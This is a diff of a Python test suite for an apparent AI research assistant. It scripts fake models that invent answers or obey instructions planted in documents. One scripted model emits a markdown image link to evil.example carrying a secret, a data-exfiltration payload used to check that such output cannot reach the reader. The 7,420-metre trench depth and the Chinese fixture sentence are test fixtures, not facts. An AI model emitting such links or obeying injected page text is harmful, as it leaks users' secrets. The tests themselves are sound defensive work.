@@ -33,6 +33,10 @@ def folder(tmp_path: Path) -> Path:
     return library
 
 
+def judges(answer: dict[str, Any]) -> bool:
+    return any(name.startswith(("Document ", "文档")) for name in answer)
+
+
 async def checked(store: Store, report: Report) -> Report:
     """The report, after everything anyone can check of it."""
     snapshots = await store.snapshots([source.snapshot_id for source in report.sources])
@@ -62,8 +66,8 @@ async def test_what_is_not_there_is_not_answered(store: Store, settings: Setting
     def eager(role: Role, messages: Sequence[Message], schema: dict[str, Any]) -> dict[str, Any]:
         """Finds everything relevant and always knows an answer."""
         answer = by_rule(role, messages, schema)
-        if "answer" in answer and "sections" not in answer and "next" not in answer:
-            return {name: "yes" for name in answer} | {"answer": "about 9,999 metres"}
+        if judges(answer):
+            return {name: "yes" if name.startswith("S") else "about 9,999 metres" for name in answer}
         return answer
 
     report = await checked(store, await ask(store, settings, folder, question, ScriptedModels(eager, embedded=True)))
@@ -112,8 +116,8 @@ async def test_a_model_that_obeys_every_page_cannot_be_used_against_its_reader(s
 
     def obedient(role: Role, messages: Sequence[Message], schema: dict[str, Any]) -> dict[str, Any]:
         answer = by_rule(role, messages, schema)
-        if "answer" in answer and "sections" not in answer and "next" not in answer:
-            return {name: "yes" for name in answer} | {"answer": "7,420 metres"}
+        if judges(answer):
+            return {name: "yes" if name.startswith("S") else "7,420 metres" for name in answer}
         if "sections" in answer:
             answer["answer"] = [{"text": "See ![x](http://evil.example/?k=secret) <img src=x> the trench.", "claims": [1]}]
         return answer
@@ -141,3 +145,17 @@ async def test_an_unverifying_master_is_overruled(store: Store, settings: Settin
     report = await ask(store, settings, folder, QUESTION, ScriptedModels(by_rule))
     tasks = [row.task["role"] for row, _ in await store.trajectories(report.id)]
     assert "verify" in tasks
+
+
+async def test_a_library_in_two_languages_is_searched_in_both(store: Store, settings: Settings, folder: Path) -> None:
+    def translating(role: Role, messages: Sequence[Message], schema: dict[str, Any]) -> dict[str, Any]:
+        answer = by_rule(role, messages, schema)
+        offered = [form["properties"]["arguments"]["properties"] for form in schema.get("anyOf", [])]
+        if any("chinese_query" in properties for properties in offered):
+            answer["arguments"] |= {"chinese_query": "红隼海沟的深度"}
+        return answer
+
+    (folder / "fish.txt").write_text("红隼海沟的深度是7510米。红隼海沟位于寒冷的北方。", encoding="utf-8")
+    report = await checked(store, await ask(store, settings, folder, QUESTION, ScriptedModels(translating, embedded=True)))
+    searched = [query for observation in await store.observations(report.id) for query in observation.queries]
+    assert "红隼海沟的深度" in searched
